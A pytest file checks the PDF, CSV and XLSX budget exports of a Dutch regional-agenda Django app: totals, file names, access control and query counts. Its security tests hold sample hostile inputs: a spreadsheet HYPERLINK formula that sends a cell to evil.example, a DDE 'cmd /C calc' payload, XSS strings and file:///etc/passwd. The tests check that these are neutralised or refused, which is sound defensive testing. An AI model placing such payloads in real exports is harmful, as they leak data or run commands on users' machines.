"""Exports of an agenda: PDF, budget CSV and budget XLSX (agendas.exports and its views)."""

import csv
import io
import re
import socket
from collections import defaultdict
from decimal import Decimal

import pytest
from django.db.models import Sum
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.models import GlobalRole
from agendas import exports, services
from agendas.models import BudgetLine
from agendas.selectors import agenda_document, agenda_queryset
from core import documents
from core.templatetags.formatting import euro
from goals.models import Goal
from regions.models import Indicator
from regions.selectors import region_profile
from tests.agendas.factories import make_agenda, make_measure, make_priority
from tests.factories import make_user
from tests.helpers import listing, measure

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"klik")'
EXPORTS = ["agendas:export-pdf", "agendas:export-csv", "agendas:export-xlsx"]


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def agenda(coalition, alice):
    agenda = make_agenda(coalition, alice, title="Kansen voor Oost-Groningen")
    priority = make_priority(agenda, alice, title="Gezonde jeugd")
    make_measure(
        agenda,
        priority,
        alice,
        title="Sportcoaches op school",
        budget={(2026, "rijk"): 1_250_000, (2026, "province"): 250_000, (2027, "eu_erdf"): 75_500},
    )
    make_measure(agenda, priority, alice, title="Gezonde kantine", budget={(2028, "private"): 40_000})
    agenda.refresh_from_db()
    assert agenda.revision_count == 4
    return agenda


def document_of(agenda):
    return agenda_document(agenda_queryset().get(pk=agenda.pk))


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    text = " ".join(page.extract_text() for page in reader.pages)
    return " ".join(text.replace("\xa0", " ").split())


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def database_total(agenda) -> int:
    return BudgetLine.objects.filter(measure__agenda=agenda).aggregate(total=Sum("amount"))["total"]


@pytest.fixture
def no_network(monkeypatch):
    """Every attempt to resolve a host or open a socket is recorded and refused."""
    attempts: list[object] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access in a test")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", lambda self, *a, **k: refuse(*a))
    return attempts


# --- PDF --------------------------------------------------------------------------------------


def test_the_pdf_shows_title_priorities_measures_and_total(agenda):
    document = document_of(agenda)
    content = exports.agenda_pdf(document, profile=region_profile(agenda.region))
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    assert "Kansen voor Oost-Groningen" in text
    assert "Gezonde jeugd" in text
    assert "Sportcoaches op school" in text
    assert "Gezonde kantine" in text
    assert database_total(agenda) == 1_615_500
    assert euro(database_total(agenda)).replace("\xa0", " ") in text  # "€ 1.615.500"
    assert "Concept" in text
    assert f"Revisie {agenda.revision_count}" in text
    assert "Bron: CBS" in text


def test_the_pdf_shows_the_region_profile(agenda):
    profile = region_profile(agenda.region)
    text = pdf_text(exports.agenda_pdf(document_of(agenda), profile=profile))
    assert profile.themes_with_data, "the test data has CBS figures for this region"
    assert f"achterstand op {profile.accumulated_deficit} van de {profile.themes_with_data} thema's" in text
    for theme in profile.lagging_themes:
        assert theme.name in text


def test_the_pdf_lists_what_is_missing(coalition, alice):
    agenda = make_agenda(coalition, alice, summary="", title="Half af")
    text = pdf_text(exports.agenda_pdf(document_of(agenda), profile=None))
    assert "Schrijf een samenvatting." in text
    assert "Voeg minstens één prioriteit toe." in text


def test_user_markdown_in_the_pdf_runs_nothing_and_fetches_nothing(coalition, alice, no_network):
    vision = (
        "Onze visie.\n\n<script>alert(1)</script>\n\n"
        '<img src="http://example.com/x.png" onerror=alert(1)>\n\n'
        "![plaatje](http://example.com/y.png) en [een link](http://example.com/z)"
    )
    agenda = make_agenda(coalition, alice, vision=vision)
    fetcher = documents.NoNetworkURLFetcher()
    content = exports.agenda_pdf(document_of(agenda), profile=None, url_fetcher=fetcher)
    text = pdf_text(content)
    assert "Onze visie." in text
    assert "alert" not in text
    assert "script" not in text
    assert not [url for url in fetcher.refused if "example.com" in url], "sanitising drops images before rendering"
    assert no_network == []


def test_the_renderer_refuses_every_url_but_data(no_network):
    """Even if an image or stylesheet got past the sanitiser, WeasyPrint would not fetch it."""
    pixel = (
        "data:image/png;base64,"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )
    html = (
        "<html><head><link rel='stylesheet' href='https://example.com/style.css'>"
        "<style>@import url('http://example.com/import.css'); body { background: url('file:///etc/hostname'); }</style>"
        "</head><body><p>Tekst</p>"
        "<img src='http://example.com/x.png'><img src='file:///etc/passwd'><img src='/relatief.png'>"
        f"<img src='{pixel}'></body></html>"
    )
    fetcher = documents.NoNetworkURLFetcher()
    content = documents.html_to_pdf(html, url_fetcher=fetcher)
    assert content.startswith(b"%PDF")
    assert "Tekst" in pdf_text(content)
    assert set(fetcher.refused) >= {
        "https://example.com/style.css",
        "http://example.com/import.css",
        "http://example.com/x.png",
        "file:///etc/passwd",
        "file:///etc/hostname",
    }
    assert not [url for url in fetcher.refused if url.startswith("data:")]
    # Without an explicit fetcher the same refusing one is used.
    documents.html_to_pdf(html)
    assert no_network == []


def test_the_pdf_view_renders_with_the_refusing_fetcher(client, agenda, alice, monkeypatch):
    made = []

    class Recording(documents.NoNetworkURLFetcher):
        def __init__(self):
            super().__init__()
            made.append(self)

    monkeypatch.setattr(documents, "NoNetworkURLFetcher", Recording)
    client.force_login(alice)
    response = client.get(reverse("agendas:export-pdf", args=[agenda.pk]))
    assert response.status_code == 200
    assert len(made) == 1  # the view's PDF was rendered through the fetcher that refuses every URL
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansenagenda-kansen-voor-oost-groningen-2026-2035-r{agenda.revision_count}.pdf"'
    )
    assert b"".join(response).startswith(b"%PDF")


# --- file names ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        # The demo's title: no second "kansenagenda", the en dash of the period a hyphen.
        ("Kansenagenda Veenkoloniën 2027–2040", "kansenagenda-veenkolonien-2027-2040-r4"),
        ("KANSENAGENDA: Fryslân 2027 — 2040", "kansenagenda-fryslan-2027-2040-r4"),
        ("Kansen voor Oost-Groningen", "kansenagenda-kansen-voor-oost-groningen-2027-2040-r4"),
        ("Groningen 2027/2040", "kansenagenda-groningen-2027-2040-r4"),
        ("Kansenagenda", "kansenagenda-oost-groningen-2027-2040-r4"),
        ("!!!", "kansenagenda-oost-groningen-2027-2040-r4"),
        ("<script>é" + "x" * 300, "kansenagenda-scripte" + "x" * 73 + "-2027-2040-r4"),
    ],
)
def test_an_export_has_one_readable_ascii_file_name(coalition, alice, title, expected):
    agenda = make_agenda(coalition, alice, start_year=2027, end_year=2040)
    agenda.title, agenda.revision_count = title, 4
    name = exports.export_filename(agenda, "pdf")
    assert name == f"{expected}.pdf"
    assert name.isascii() and '"' not in name and " " not in name


# --- numbers ------------------------------------------------------------------------------------


def test_indicator_values_in_the_pdf_have_the_precision_of_their_unit(coalition, alice):
    agenda = make_agenda(coalition, alice)
    indicator = Indicator.objects.filter(in_profile=True, unit__startswith="%").order_by("code").first()
    target = services.TargetInput(
        indicator_id=indicator.pk,
        baseline_year=2024,
        baseline_value=Decimal("56.2831"),
        target_year=2035,
        target_value=Decimal("61.8841"),
    )
    make_priority(agenda, alice, targets=[target])
    context = exports.pdf_context(document_of(agenda), profile=None)
    (shown,) = context["priorities"][0]["targets"]
    assert (shown["baseline_value"], shown["target_value"]) == ("56,3", "61,9")
    text = pdf_text(exports.agenda_pdf(document_of(agenda), profile=None))
    assert "56,3 (2024)" in text and "61,9 (2035)" in text
    assert "56,2831" not in text and "56.2831" not in text and "61,8841" not in text
    with translation.override("en"):
        context = exports.pdf_context(document_of(agenda), profile=None)
    assert context["priorities"][0]["targets"][0]["baseline_value"] == "56.3"


def test_the_pdf_shows_the_budget_chart_with_its_colours(agenda):
    context = exports.pdf_context(document_of(agenda), profile=None)
    chart = context["budget_chart"]
    assert [entry.label for entry in chart.legend] == ["Rijk", "Regio", "EU", "Privaat", "Overig"]
    html = render_to_string("agendas/export_pdf.html", context)
    drawing = html.split('<svg class="ka-chart__svg"')[1].split("</svg>")[0]
    # Colours as SVG attributes (WeasyPrint draws an SVG without the page's CSS), coordinates with a point.
    assert 'fill="#154273"' in drawing and 'fill="#b3541e"' in drawing
    assert not re.search(r'(x|y|width|height)="\d+,\d', drawing)
    assert "Begroting per jaar en brongroep" in pdf_text(exports.agenda_pdf(document_of(agenda), profile=None))


# --- CSV --------------------------------------------------------------------------------------


def test_the_csv_has_one_row_per_budget_line_in_whole_euros(agenda):
    rows = csv_rows(exports.budget_csv(document_of(agenda)))
    header, body = rows[0], rows[1:]
    assert header == [
        "Prioriteit",
        "Maatregel",
        "Trekker",
        "Jaar",
        "Broncode",
        "Bron",
        "Brongroep",
        "Bedrag (euro)",
    ]
    assert len(body) == BudgetLine.objects.filter(measure__agenda=agenda).count() == 4
    assert all(row[7].isdigit() for row in body), "no separators, no decimals"
    assert sum(int(row[7]) for row in body) == database_total(agenda) == document_of(agenda).budget.total
    first = body[0]
    assert first[:2] == ["Gezonde jeugd", "Sportcoaches op school"]
    assert (first[3], first[4], first[5], first[6], first[7]) == ("2026", "province", "Provincie", "Regio", "250000")


def test_the_csv_keeps_accents_for_excel(coalition, alice):
    agenda = make_agenda(coalition, alice)
    priority = make_priority(agenda, alice, title="Gezondheid in Fryslân en Zeeuws-Vlaanderen: één aanpak")
    make_measure(agenda, priority, alice)
    content = exports.budget_csv(document_of(agenda))
    assert "Fryslân en Zeeuws-Vlaanderen: één aanpak".encode() in content
    assert csv_rows(content)[1][0] == "Gezondheid in Fryslân en Zeeuws-Vlaanderen: één aanpak"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_start_is_neutralised(start):
    assert documents.neutralise(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_are_left_alone():
    assert documents.neutralise("Sportcoaches = goed") == "Sportcoaches = goed"
    assert documents.neutralise(-5) == -5
    assert documents.neutralise(2026) == 2026


@pytest.fixture
def hostile_agenda(coalition, alice):
    agenda = make_agenda(coalition, alice, title="@SUM(1+1)*cmd|' /C calc'!A0")
    priority = make_priority(agenda, alice, title="+31 kansen")
    make_measure(agenda, priority, alice, title=HYPERLINK)
    return agenda


def test_formulas_in_the_csv_are_neutralised(hostile_agenda):
    row = csv_rows(exports.budget_csv(document_of(hostile_agenda)))[1]
    assert row[0] == "'+31 kansen"
    assert row[1] == "'" + HYPERLINK


def test_formulas_in_the_xlsx_are_neutralised(hostile_agenda):
    workbook = load_workbook(io.BytesIO(exports.budget_xlsx(document_of(hostile_agenda))))
    lines = workbook["Begroting"]
    assert lines["A2"].value == "'+31 kansen"
    assert lines["B2"].value == "'" + HYPERLINK
    assert lines["B2"].data_type == "s"
    overview = dict(workbook["Samenvatting"].iter_rows(values_only=True))
    assert overview["Titel"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


# --- XLSX -------------------------------------------------------------------------------------


def test_the_xlsx_has_the_budget_lines_as_whole_euro_numbers(agenda):
    workbook = load_workbook(io.BytesIO(exports.budget_xlsx(document_of(agenda))))
    assert workbook.sheetnames == ["Begroting", "Per jaar", "Samenvatting"]
    lines = workbook["Begroting"]
    assert [c.value for c in lines[1]][0] == "Prioriteit"
    assert lines.freeze_panes == "A2"
    assert lines.auto_filter.ref == f"A1:H{lines.max_row}"
    assert lines.column_dimensions["A"].width > 20
    amounts = [row[7] for row in lines.iter_rows(min_row=2)]
    assert len(amounts) == 4
    assert all(type(cell.value) is int for cell in amounts)
    assert all(cell.number_format == "#,##0" for cell in amounts)
    assert sum(cell.value for cell in amounts) == database_total(agenda)


def test_the_xlsx_totals_per_year_match_the_budget(agenda):
    document = document_of(agenda)
    workbook = load_workbook(io.BytesIO(exports.budget_xlsx(document)))
    per_year = list(workbook["Per jaar"].iter_rows(values_only=True))
    header, years, total_row = per_year[0], per_year[1:-1], per_year[-1]
    assert header[0] == "Jaar" and header[-1] == "Totaal"
    expected = defaultdict(int)
    for year, amount in BudgetLine.objects.filter(measure__agenda=agenda).values_list("year", "amount"):
        expected[year] += amount
    assert [row[0] for row in years] == list(agenda.years)
    assert {row[0]: row[-1] for row in years} == {year: expected.get(year, 0) for year in agenda.years}
    assert {row[0]: row[-1] for row in years} == {year: document.budget.by_year.get(year, 0) for year in agenda.years}
    for row in years:
        assert sum(row[1:-1]) == row[-1]
    assert total_row[0] == "Totaal"
    assert total_row[-1] == document.budget.total == database_total(agenda)
    rijk_column = header.index("Rijk (aanvraag)")
    assert total_row[rijk_column] == document.budget.rijk_total == 1_250_000
    assert all(type(v) is int for row in per_year[1:] for v in row[1:])


def test_the_xlsx_summary(agenda):
    document = document_of(agenda)
    workbook = load_workbook(io.BytesIO(exports.budget_xlsx(document)))
    overview = dict(workbook["Samenvatting"].iter_rows(values_only=True))
    assert overview["Titel"] == "Kansen voor Oost-Groningen"
    assert overview["Periode"] == "2026–2035"
    assert overview["Totale begroting (euro)"] == 1_615_500
    assert overview["Gevraagd van het Rijk (euro)"] == 1_250_000
    assert overview["Aandeel Rijk"] == pytest.approx(1_250_000 / 1_615_500)
    assert overview["Cofinancieringsgraad"] == pytest.approx(365_500 / 1_615_500)
    assert overview["Revisie"] == agenda.revision_count
    assert overview["Status"] == "Concept"
    assert overview["Geëxporteerd op"] is not None


def test_an_agenda_without_budget_exports_empty_tables(coalition, alice):
    agenda = make_agenda(coalition, alice)
    document = document_of(agenda)
    assert csv_rows(exports.budget_csv(document))[1:] == []
    workbook = load_workbook(io.BytesIO(exports.budget_xlsx(document)))
    overview = dict(workbook["Samenvatting"].iter_rows(values_only=True))
    assert overview["Totale begroting (euro)"] == 0
    assert overview["Aandeel Rijk"] is None
    assert "–" in pdf_text(exports.agenda_pdf(document, profile=None))  # the share without a total


# --- access -----------------------------------------------------------------------------------


@pytest.fixture
def rita(db):
    return make_user("rita", role=GlobalRole.RIJK_OFFICIAL)


@pytest.fixture
def rob(db):
    return make_user("rob", role=GlobalRole.REVIEWER)


@pytest.fixture
def dora(db):
    return make_user("dora", role=GlobalRole.DATA_STEWARD)


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize(
    ("who", "status"),
    [("alice", 200), ("bob", 200), ("victor", 200), ("charlie", 404), ("rita", 404), ("rob", 404), ("dora", 404)],
)
def test_only_members_may_export(client, agenda, request, name, who, status):
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse(name, args=[agenda.pk]))
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"].startswith('attachment; filename="kansenagenda-kansen-voor-oost')
        assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("name", EXPORTS)
def test_an_unknown_agenda_is_a_404(client, alice, name):
    client.force_login(alice)
    assert client.get(reverse(name, args=[999_999])).status_code == 404


@pytest.mark.parametrize("name", EXPORTS)
def test_anonymous_users_are_sent_to_log_in(client, agenda, name):
    response = client.get(reverse(name, args=[agenda.pk]))
    assert response.status_code == 302
    assert "/login/" in response["Location"] or "inloggen" in response["Location"]


@pytest.mark.parametrize("name", EXPORTS)
def test_exports_are_get_only(client, agenda, alice, name):
    client.force_login(alice)
    assert client.post(reverse(name, args=[agenda.pk])).status_code == 405


def test_the_csv_and_xlsx_views_send_the_right_types(client, agenda, victor):
    client.force_login(victor)
    response = client.get(reverse("agendas:export-csv", args=[agenda.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith(f'-r{agenda.revision_count}.csv"')
    assert sum(int(row[7]) for row in csv_rows(response.content)[1:]) == database_total(agenda)
    response = client.get(reverse("agendas:export-xlsx", args=[agenda.pk]))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["Begroting", "Per jaar", "Samenvatting"]


# --- queries ----------------------------------------------------------------------------------


def grow(agenda, actor, priorities: int, measures: int) -> None:
    """``priorities`` more priorities, each with ``measures`` measures that each have budget lines and goal links."""
    goal = Goal.objects.get(catalogue="sdg", code="8.2")
    start = agenda.start_year
    for p in range(priorities):
        priority = make_priority(
            agenda,
            actor,
            title=f"Prioriteit {p}",
            goal_links=[
                services.GoalLinkInput(goal_id=Goal.objects.get(catalogue="sdg", code="3.4").pk),
                services.GoalLinkInput(goal_id=goal.pk, strength="indirect", contribution="Werk"),
            ],
        )
        for m in range(measures):
            make_measure(
                agenda,
                priority,
                actor,
                title=f"Maatregel {p}.{m}",
                budget={(start, "rijk"): 1000 + m, (start + 1, "eu_esf"): 500, (start + 2, "private"): 250},
                goal_links=[services.GoalLinkInput(goal_id=goal.pk)],
            )


def measure_queries(client, url: str) -> list[str]:
    response, queries = measure(client, url)
    b"".join(response)  # the whole file was made
    return queries


# session, user, agenda (+coalition), perms-user (the member's own object permissions),
# then agenda_queryset: 1 agenda (+coalition, region, lead partner), 2 its themes, 3 priorities,
# 4 their themes, 5 their targets, 6 measures, 7 budget lines; agenda_document: 8 the goal links of
# priorities and measures together (with the goal of a linked target, for the goal coverage).
DOCUMENT_QUERIES = 2 + 2 + 8
# The PDF adds the region profile: the region's municipalities (1); the current datasets, the CBS
# snapshot and the profile come from the cache.
EXPECTED = {
    "agendas:export-pdf": DOCUMENT_QUERIES + 1,
    "agendas:export-csv": DOCUMENT_QUERIES,
    "agendas:export-xlsx": DOCUMENT_QUERIES,
}


@pytest.mark.parametrize("name", EXPORTS)
def test_exports_use_a_fixed_number_of_queries(client, coalition, alice, victor, name):
    small = make_agenda(coalition, alice, title="Klein")
    grow(small, alice, priorities=1, measures=1)
    large = make_agenda(coalition, alice, title="Groot")
    grow(large, alice, priorities=5, measures=4)
    client.force_login(victor)
    small_queries = measure_queries(client, reverse(name, args=[small.pk]))
    large_queries = measure_queries(client, reverse(name, args=[large.pk]))
    assert len(small_queries) == len(large_queries) == EXPECTED[name], (
        f"expected {EXPECTED[name]} queries at both sizes"
        + listing("SMALL", small_queries)
        + listing("LARGE", large_queries)
    )
